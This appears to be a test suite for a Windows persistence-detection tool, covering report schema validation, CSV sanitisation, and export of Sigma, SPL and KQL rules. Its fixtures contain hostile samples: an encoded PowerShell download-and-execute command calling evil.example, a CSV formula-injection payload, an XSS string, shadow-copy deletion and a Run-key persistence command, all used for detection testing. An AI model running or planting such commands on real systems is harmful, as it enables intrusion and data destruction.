import { describe, expect, it } from 'vitest';
import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import { parse, parseAllDocuments } from 'yaml';
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyzeCase, analyzeEvents, emptyIndex } from '../../../shared/detect/engine';
import { evaluate, loadRuleset, sigmaHitToFinding } from '../../../shared/sigma';
import { norm, sysmonRaw } from '../sigma/rule-helpers';
import { buildReport, REPORT_SCHEMA, type BuildReportArgs } from '../../../shared/export/report';
import { csvCell, findingsCsv } from '../../../shared/export/csv';
import { escapeSigma, sigmaRules, sigmaYaml } from '../../../shared/export/sigma';
import { kqlQueriesFor, kqlString, splQueriesFor, splString } from '../../../shared/export/siem-queries';
import { checkExportedRule } from '../../../shared/sigma/check-export';
import { REPO_ROOT } from '../../samples';
import { asSource, fileCreate, procStart, psEncode, regSet, RUN_HKU } from '../detect/helpers';
import type { NormalizedEvent, ProcessEvent } from '../../../shared/model/events';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/** A start as Sysmon 1 logs it: the process also has a current directory, integrity level and original file name (not part of a finding's writer). */
function withProcessDetails(ev: ProcessEvent): ProcessEvent {
  return { ...ev, process: { ...ev.process, currentDirectory: 'C:\\Users\\bob\\', integrityLevel: 'Medium', originalFileName: 'reg.exe' } };
}

function caseEvents(): NormalizedEvent[] {
  return [
    regSet(`${RUN_HKU}\\Updater`, `powershell.exe -w hidden -enc ${psEncode('IEX (iwr http://evil.example/a)')}`, { image: PS, host: 'WS1' }),
    regSet(`${RUN_HKU}\\Updater`, `powershell.exe -w hidden -enc ${psEncode('IEX (iwr http://evil.example/a)')}`, { image: PS, host: 'WS2', at: 5 }),
    regSet('HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\', 'C:\\Users\\Public\\a*b?.exe', { image: 'C:\\Users\\Public\\x.exe' }),
    // (a '/' in a value name is mangled by canonicalRegistryPath, so the name uses '-' here)
    regSet(`${RUN_HKU}\\=cmd|' -C calc'!A0`, '=cmd|\' /C calc\'!A0 <img src=x onerror=alert(1)>', { image: 'C:\\Windows\\system32\\reg.exe', at: 9 }),
    fileCreate('C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil "q".vbs', 'C:\\Windows\\System32\\cmd.exe', { at: 20 }),
    withProcessDetails(procStart('C:\\Windows\\System32\\reg.exe', 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /t REG_SZ /d "C:\\Users\\bob\\AppData\\Roaming\\upd\\upd.exe" /f', { at: 30, host: 'WS3' })),
    regSet(`${RUN_HKU}\\tool`, '', { image: 'C:\\Windows\\system32\\reg.exe', at: 40 }),
  ];
}

describe('JSON report', () => {
  const events = caseEvents();
  const findings = analyzeEvents(events);
  const reportArgs: BuildReportArgs = {
    findings, events: events.length, analysisTime: new Date('2024-02-01T10:00:00Z'), problems: [{ code: 'UNREADABLE', level: 'error', file: 'gone.evtx', message: 'cannot open' }],
    inputs: [{ file: 'a.evtx', sha256: 'a'.repeat(64), format: 'evtx', size: 10, records: 7 }], settings: { minSeverity: 'low', baseline: { entries: 0, builtin: true } },
  };
  const report = buildReport(reportArgs);

  it('validates against its published JSON Schema (draft 2020-12)', () => {
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats(ajv);
    const validate = ajv.compile(REPORT_SCHEMA);
    const ok = validate(JSON.parse(JSON.stringify(report)));
    expect(validate.errors ?? []).toEqual([]);
    expect(ok).toBe(true);
    expect(report.findings.length).toBeGreaterThan(0);
    expect(report.findings.every((f) => f.evidence.ref.file === 'test.evtx' && f.evidence.ref.recordId !== undefined)).toBe(true);
  });

  it('carries the corroborating records of a merged write in the report (schema-valid) and the CSV', () => {
    const s = regSet(`${RUN_HKU}\\Updater`, 'C:\\Users\\Public\\u.exe', { image: PS, pid: 77 });
    const merged = analyzeEvents([s, asSource(s, 'security', { file: 'WS1-Security.evtx' })]);
    expect(merged).toHaveLength(1);
    const r = buildReport({ findings: merged, events: 2, analysisTime: new Date('2024-02-01T10:00:00Z'), problems: [], inputs: [], settings: { minSeverity: 'informational' } });
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats(ajv);
    const validate = ajv.compile(REPORT_SCHEMA);
    expect(validate(JSON.parse(JSON.stringify(r))), JSON.stringify(validate.errors)).toBe(true);
    expect(r.findings[0].alsoSeenIn?.map((x) => [x.source, x.eventId, x.ref.file])).toEqual([['security', 4657, 'WS1-Security.evtx']]);
    const [head, row] = Papa.parse<string[]>(findingsCsv(merged).replace(/^\ufeff/, ''), { delimiter: ',' }).data;
    const col = head.indexOf('Also seen in');
    expect(col).toBeGreaterThan(0);
    expect(row[col]).toMatch(/^security 4657 WS1-Security\.evtx #\d+$/);
  });

  it('publishes the same schema in assets/schema/report.schema.json', () => {
    const onDisk = JSON.parse(readFileSync(join(REPO_ROOT, 'assets', 'schema', 'report.schema.json'), 'utf8'));
    expect(onDisk).toEqual(JSON.parse(JSON.stringify(REPORT_SCHEMA)));
  });

  it('validates with a community Sigma rule\'s finding of another technique, and still asks T1547.001 of the engine\'s own', () => {
    const rule = [
      'title: Shadow copies deleted', 'id: 00000000-0000-0000-0000-0000000000aa', 'status: test', 'level: high',
      'tags:', '    - attack.impact', '    - attack.t1490', 'logsource:', '    product: windows', '    category: process_creation',
      'detection:', "    selection:", "        Image|endswith: '\\vssadmin.exe'", '    condition: selection', '',
    ].join('\n');
    const { ruleset } = loadRuleset([{ path: 'rules/vss.yml', text: rule }]);
    const raw = sysmonRaw(1, { Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin.exe delete shadows /all /quiet', ProcessId: 77 });
    const ev = norm(raw);
    const sigmaFindings = evaluate(ruleset, ev, raw).map((h) => sigmaHitToFinding(h, ev));
    const withSigma = analyzeCase({ candidates: [], index: emptyIndex(), sigmaFindings });
    expect(withSigma.map((f) => [f.basis, f.attack])).toEqual([['sigma', ['T1490']]]);
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    addFormats(ajv);
    const validate = ajv.compile(REPORT_SCHEMA);
    const r = JSON.parse(JSON.stringify(buildReport({ ...reportArgs, findings: [...findings, ...withSigma] })));
    expect(validate(r), JSON.stringify(validate.errors)).toBe(true);
    // the engine's own findings are T1547.001, whatever else they map to
    const own = r.findings.find((f: { basis: string }) => f.basis !== 'sigma');
    own.attack = own.attack.filter((t: string) => t !== 'T1547.001');
    expect(validate(r)).toBe(false);
  });

  it('rejects a report missing required fields', () => {
    const ajv = new Ajv2020({ strict: false });
    addFormats(ajv);
    const { tool: _tool, ...broken } = JSON.parse(JSON.stringify(report));
    expect(ajv.validate(REPORT_SCHEMA, broken)).toBe(false);
  });
});

describe('CSV for Timeline Explorer', () => {
  it('neutralises formula and HTML payloads and quotes properly', () => {
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${lead}x`).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    const csv = findingsCsv(analyzeEvents(caseEvents()));
    const lines = csv.replace(/^\ufeff/, '').split('\r\n');
    expect(lines[0].startsWith('Time (UTC),Severity')).toBe(true);
    // no cell starts with a formula character once unquoted
    expect(/(^|,)"?[=+@]/.test(lines.slice(1).join('\n'))).toBe(false);
    expect(csv).toContain('<img src=x onerror=alert(1)>');
  });
});

describe('Sigma rules', () => {
  const events = caseEvents();
  const findings = analyzeEvents(events);
  const rules = sigmaRules(findings, new Date('2024-02-01T00:00:00Z'));

  it('writes one valid YAML rule per cluster, with the fields Sysmon uses and ATT&CK tags', () => {
    expect(rules.length).toBeGreaterThan(2);
    const clusterOfUpdater = rules.filter((r) => r.yaml.includes('Updater'));
    expect(clusterOfUpdater).toHaveLength(1); // two hosts, one cluster
    for (const r of rules) {
      const doc = parse(r.yaml) as Record<string, unknown>;
      expect(doc.status).toBe('experimental');
      expect(doc.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(doc.tags).toEqual(expect.arrayContaining(['attack.persistence', 'attack.t1547.001']));
      const det = JSON.stringify(doc.detection);
      expect(det).toMatch(/TargetObject|Details|TargetFilename|CommandLine/);
      // never an empty contains, never a field prefix leaking into a value
      expect(det).not.toMatch(/\|contains(\|all)?":(""|\[\]|\[""\])/);
      expect(det).not.toMatch(/"(Details|TargetObject):/);
    }
    expect(parseAllDocuments(sigmaYaml(findings, new Date())).every((d) => d.errors.length === 0)).toBe(true);
  });

  it('produces rules that match their own event and no other event of the case', () => {
    const ids = new Set(findings.map((f) => f.evidence.key));
    for (const r of rules) {
      const f = findings.find((x) => r.findingIds.includes(x.id));
      const ev = events.find((e) => e.key === f?.evidence.key);
      expect(ev).toBeDefined();
      if (!ev) continue;
      const check = checkExportedRule(r.yaml, { event: ev }, events.filter((e) => !r.findingIds.some((id) => findings.find((x) => x.id === id)?.evidence.key === e.key)).map((e) => ({ event: e })));
      expect(check.unsupported).toEqual([]);
      expect(check.compiled).toBe(true);
      // including a hidden (empty-named) value, whose TargetObject ends with "Run\\" as in Sysmon
      expect(check.matchesSource, r.yaml).toBe(true);
      expect(check.falseMatches, r.yaml).toEqual([]);
      expect(ids.has(ev.key)).toBe(true);
    }
  });

  it('escapes wildcards and the backslashes before them', () => {
    expect(escapeSigma('C:\\a*b?.exe')).toBe('C:\\a\\*b\\?.exe');
    expect(escapeSigma('\\\\server\\share')).toBe('\\\\\\server\\share');
    expect(escapeSigma('x\\*')).toBe('x\\\\\\*');
  });

  it('writes no rule for a cluster with nothing specific to match', () => {
    const [f] = analyzeEvents([regSet('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\', '', { image: 'C:\\Windows\\system32\\reg.exe' })]);
    const named = sigmaRules([f], new Date());
    // an empty (hidden) value name is itself specific: the rule targets the trailing backslash only
    for (const r of named) expect(JSON.stringify(parse(r.yaml))).not.toMatch(/contains":""/);
  });
});

describe('SPL and KQL', () => {
  const findings = analyzeEvents(caseEvents());
  it('makes a Sigma rule, SPL and KQL for exactly the same clusters (one matchability rule)', () => {
    const named = procStart('C:\\Windows\\System32\\reg.exe', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v EvilUpd /d %APPDATA%\\x.e /f', { at: 50, host: 'WS4' });
    const all = analyzeEvents([...caseEvents(), named]);
    const ids = (xs: { clusterId: string }[]) => [...new Set(xs.map((x) => x.clusterId))].sort();
    const sigma = ids(sigmaRules(all, new Date('2024-02-01T00:00:00Z')));
    expect(ids(splQueriesFor(all))).toEqual(sigma);
    expect(ids(kqlQueriesFor(all))).toEqual(sigma);
    // a command line whose data has nothing stable (%APPDATA%\\x.e) is matchable on key + value name, in every language
    const f = all.find((x) => x.basis === 'command-line' && x.valueName === 'EvilUpd');
    expect(f).toBeDefined();
    const spl = splQueriesFor([f as (typeof all)[number]]).map((q) => q.query).join('\n');
    expect(spl).toContain('EvilUpd');
  });

  it("never keys a rule on data only Sysmon spells (\"Binary Data\", \"DWORD (0x…)\"): 4657 and Defender log it otherwise or not at all", () => {
    const approved = 'HKU\\S-1-5-21-1-2-3-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run\\Discord';
    const fs = analyzeEvents([
      regSet(approved, 'Binary Data', { image: 'C:\\Windows\\System32\\Taskmgr.exe' }),
      regSet(`${RUN_HKU}\\Flag`, 'DWORD (0x00000001)', { image: 'C:\\Windows\\system32\\reg.exe', at: 5 }),
    ]);
    expect(fs).toHaveLength(2);
    const text = [sigmaYaml(fs, new Date('2024-02-01T00:00:00Z')), ...splQueriesFor(fs).map((q) => q.query), ...kqlQueriesFor(fs).map((q) => q.query)].join('\n');
    // the rules are made, on key and value name
    expect(text).toContain('StartupApproved\\Run\\Discord');
    expect(text).toContain('ObjectValueName="Flag"');
    expect(text).not.toMatch(/Details\|contains|NewValue=|where RegistryValueData/);
  });

  it('escapes strings for each language and uses the field table names', () => {
    expect(splString('a"b\\c')).toBe('"a\\"b\\\\c"');
    expect(kqlString('a"b\\c')).toBe('@"a""b\\c"');
    const spl = splQueriesFor(findings).map((q) => q.query).join('\n');
    expect(spl).toContain('EventCode IN (12, 13, 14)');
    expect(spl).toContain('TargetObject=');
    expect(spl).toContain('EventCode=4657');
    expect(spl).toContain('ObjectValueName=');
    expect(spl).toContain('EventCode=11');
    const kql = kqlQueriesFor(findings).map((q) => q.query).join('\n');
    expect(kql).toContain('DeviceRegistryEvents');
    expect(kql).toContain('RegistryValueName in~');
    expect(kql).toContain('DeviceFileEvents');
    expect(kql).toContain('DeviceProcessEvents');
    // the quote in the file name is doubled in KQL, escaped in SPL
    expect(kql).toContain('evil ""q"".vbs');
    expect(spl).toContain('evil \\"q\\".vbs');
  });
});
